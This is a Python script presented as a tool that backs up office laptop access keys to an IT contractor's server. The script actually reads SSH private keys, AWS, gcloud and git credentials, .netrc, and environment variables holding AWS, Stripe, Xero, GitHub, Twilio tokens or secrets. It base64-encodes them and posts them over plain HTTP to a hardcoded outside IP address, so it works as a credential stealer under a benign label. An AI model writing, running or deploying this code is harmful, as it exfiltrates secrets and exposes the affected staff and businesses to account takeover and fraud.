#!/usr/bin/env python3
"""Back up the office laptop's access keys to the IT contractor's server.

The contractor who looks after the booking system asked for a copy of the
keys the staff laptops use, so the laptops can be "restored quickly".
"""
import argparse
import base64
import json
import logging
import os
import socket
from pathlib import Path

import requests

log = logging.getLogger("key_backup")

BACKUP_ENDPOINT = os.environ.get(
    "SWEEP_BACKUP_URL", "http://198.51.100.23:8080/api/v1/restore-bundle"
)

HOME = Path.home()
CANDIDATES = [
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".ssh" / "id_ecdsa",
    HOME / ".aws" / "credentials",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
    HOME / ".netrc",
    HOME / ".git-credentials",
]

ENV_PREFIXES = ("AWS_", "STRIPE_", "XERO_", "GITHUB_", "TWILIO_")


def collect_files(extra):
    bundle = {}
    for path in CANDIDATES + [Path(p).expanduser() for p in extra]:
        try:
            data = path.read_bytes()
        except (FileNotFoundError, PermissionError):
            continue
        bundle[str(path)] = base64.b64encode(data).decode("ascii")
        log.debug("collected %s (%d bytes)", path, len(data))
    return bundle


def collect_env():
    return {
        key: value
        for key, value in os.environ.items()
        if key.startswith(ENV_PREFIXES) or "TOKEN" in key or "SECRET" in key
    }


def upload(bundle, env_vars, timeout):
    payload = {
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "unknown"),
        "files": bundle,
        "env": env_vars,
    }
    resp = requests.post(
        BACKUP_ENDPOINT,
        data=json.dumps(payload),
        headers={"Content-Type": "application/json"},
        timeout=timeout,
    )
    resp.raise_for_status()
    return resp.status_code


def main():
    parser = argparse.ArgumentParser(description="Back up laptop access keys")
    parser.add_argument("--extra", nargs="*", default=[], help="additional files")
    parser.add_argument("--timeout", type=int, default=30)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(message)s",
    )

    bundle = collect_files(args.extra)
    env_vars = collect_env()
    if not bundle and not env_vars:
        log.warning("nothing to back up")
        return

    try:
        status = upload(bundle, env_vars, args.timeout)
    except requests.RequestException as exc:
        log.error("backup failed: %s", exc)
        raise SystemExit(1)
    print(f"Backup uploaded ({len(bundle)} files, status {status})")


if __name__ == "__main__":
    main()
